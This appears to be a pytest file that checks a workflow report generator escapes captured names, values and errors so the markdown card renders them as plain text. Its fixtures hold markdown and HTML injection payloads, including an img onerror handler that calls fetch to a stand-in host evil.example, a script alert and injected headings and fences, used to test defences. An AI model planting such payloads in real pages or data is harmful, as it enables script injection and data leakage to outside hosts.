"""The markdown card renders every captured string as text: no raw HTML, no image, no link,
no heading or code fence of its own, whatever a name, id, value or error holds (issue 23,
item 6). Checked by rendering the card as CommonMark with GFM tables (markdown-it, what
rich uses), as GitHub and IDE previews do."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from exports.report.service import generate_report

IMG = "![x](http://evil.example/t.png)"
HTML = '<img src=x onerror="fetch(\'http://evil.example/h\')">'
HOSTILE = {
    "name": f"{IMG} {HTML}",
    "activity": f"train {HTML}\n# injected heading\n```\n<script>alert(1)</script>",
    "task": "t`` ` ```1 <b>bold</b>",
    "value": f"``` {IMG} [link](http://evil.example/l) <http://evil.example/a> | cell",
    "error": f"boom </td><img src=http://evil.example/e.png>\n## also injected\n{IMG}",
    "host": f"node-1 {IMG}",
    "user": "<u>alice</u> *bold* _it_ ~~strike~~ &amp; www.evil.example",
}


def _records(h: dict[str, str]) -> list[dict[str, Any]]:
    t0 = 1_790_000_000.0
    return [
        {"type": "workflow", "workflow_id": f"wf {h['name']}", "name": h["name"],
         "user": h["user"], "started_at": t0, "campaign_id": f"camp {IMG}"},
        {"type": "task", "task_id": h["task"], "activity_id": h["activity"],
         "workflow_id": f"wf {h['name']}", "used": {h["value"]: h["value"]},
         "generated": {f"out {HTML}": h["value"] * 2}, "started_at": t0 + 1,
         "ended_at": t0 + 2, "status": "FINISHED", "hostname": h["host"], "user": h["user"],
         "code": {"module": f"m{HTML}", "qualname": IMG, "source_hash": "`x`"}},
        {"type": "task", "task_id": h["task"] + "2", "activity_id": h["activity"] + "2",
         "workflow_id": f"wf {h['name']}", "used": {"x": h["value"] * 2},
         "started_at": t0 + 3, "ended_at": t0 + 4, "status": "ERROR",
         "stderr": h["error"], "hostname": h["host"]},
    ]


def _tokens(markdown: str) -> list[Any]:
    out = []
    for token in MarkdownIt("commonmark").enable("table").parse(markdown):
        out.append(token)
        out.extend(token.children or ())
    return out


def _card(tmp_path: Path, hostile: dict[str, str]) -> str:
    result = generate_report(records=_records(hostile), output_path=tmp_path / "card.md")
    return str(result["markdown"])


@pytest.fixture
def benign(tmp_path: Path) -> str:
    plain = {k: f"plain {k}" for k in HOSTILE}
    return _card(tmp_path, plain)


def test_a_hostile_card_has_no_active_element(tmp_path: Path, benign: str) -> None:
    card = _card(tmp_path, HOSTILE)
    tokens = _tokens(card)
    active = [t for t in tokens if t.type in ("html_inline", "html_block", "image",
                                              "link_open", "autolink")]
    assert active == []
    html = MarkdownIt("commonmark").enable("table").render(card)
    assert "evil.example" not in "".join(str(t.attrs) for t in tokens)
    assert "<img" not in html and "<script" not in html and "<b>" not in html
    # the structure is the benign card's: no heading, fence or table row of the data's own
    shape = [(t.type, t.tag) for t in tokens if t.type.endswith("_open") or t.type == "fence"]
    benign_shape = [(t.type, t.tag) for t in _tokens(benign)
                    if t.type.endswith("_open") or t.type == "fence"]
    assert shape == benign_shape


def test_the_hostile_text_is_still_shown(tmp_path: Path) -> None:
    card = _card(tmp_path, HOSTILE)
    text = "".join(t.content for t in _tokens(card) if t.type in ("text", "code_inline"))
    assert "onerror=" in text and "![x](http://evil.example/t.png)" in text


def test_a_hostile_campaign_card_has_no_active_element(tmp_path: Path) -> None:
    records = _records(HOSTILE)
    second = [dict(r, workflow_id="wf2 " + HTML) if "workflow_id" in r else r
              for r in _records({**HOSTILE, "task": "other " + HOSTILE["task"]})]
    for r in second:
        if r["type"] == "task":
            r["used"] = {f"param {IMG}": f"different {HTML}"}
    records[1]["used"] = {f"param {IMG}": "one value"}
    result = generate_report(records=records + second, output_path=tmp_path / "c.md")
    tokens = _tokens(str(result["markdown"]))
    assert [t for t in tokens if t.type in ("html_inline", "html_block", "image",
                                            "link_open", "autolink")] == []
